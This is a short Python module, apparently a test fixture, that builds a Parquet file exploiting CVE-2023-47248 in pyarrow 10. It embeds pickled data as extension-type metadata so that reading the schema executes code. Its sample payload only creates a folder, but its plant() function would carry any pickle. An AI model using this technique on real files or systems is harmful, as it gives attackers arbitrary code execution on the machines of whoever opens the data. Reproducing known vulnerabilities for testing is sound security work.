"""A Parquet file that makes pyarrow 10 run code as it reads the schema (CVE-2023-47248)."""

from __future__ import annotations

import os
import pathlib
import pickle
from collections.abc import Mapping, Sequence

import pyarrow

from common import parquet


class MakesFolder:
    """Pickled, it makes a folder where it is loaded."""

    def __init__(self, folder: pathlib.Path) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple:
        return os.mkdir, (str(self.folder),)


def attack(path: pathlib.Path, columns: Mapping[str, Sequence], folder: pathlib.Path) -> None:
    """Write a table; pyarrow makes the folder on reading it, and then raises an error of its own."""
    plant(path, columns, pickle.dumps(MakesFolder(folder)))


def plant(path: pathlib.Path, columns: Mapping[str, Sequence], pickled: bytes) -> None:
    """Write a table whose first column has a type that is pickled."""
    table = pyarrow.table(dict(columns))
    name = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": pickled}
    first = table.schema.field(0).with_metadata(name)
    parquet.write_table(table.cast(table.schema.set(0, first)), path)
